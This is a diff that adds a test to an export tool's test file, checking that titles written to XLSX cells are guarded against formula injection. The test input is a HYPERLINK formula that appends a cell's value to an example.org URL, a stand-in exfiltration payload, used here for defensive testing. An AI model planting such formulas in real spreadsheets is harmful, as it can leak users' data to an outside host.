@@ -113,3 +113,18 @@ def test_the_pdf_has_a_cover_a_summary_sections_and_annexes(files):
     text = _flat(_text("pdf", files["pdf"]))
     for heading in ("Résumé", "Mobilités", "Santé", "Annexes", "Filiation", "34 Hérault", "Élodie Martín-Ñúñez"):
         assert heading in text, heading
+
+
+def test_the_xlsx_writer_guards_a_title_a_spreadsheet_would_run():
+    # The XLSX writer builds its own cells: each must go through the formula guard of core.tabular.
+    formula = '=HYPERLINK("https://example.org/?x="&A1;"Cliquez")'
+    buffer = io.BytesIO()
+    write_export(
+        samples.document([samples.entry(1, title=formula), samples.entry(2, title="+33 5 61 00 00 00")]), "xlsx", buffer
+    )
+    sheet = xlsx_sheet(buffer.getvalue())
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    values = [cell.value for cell in cells]
+    assert "'" + formula in values and "'+33 5 61 00 00 00" in values
+    assert formula not in values
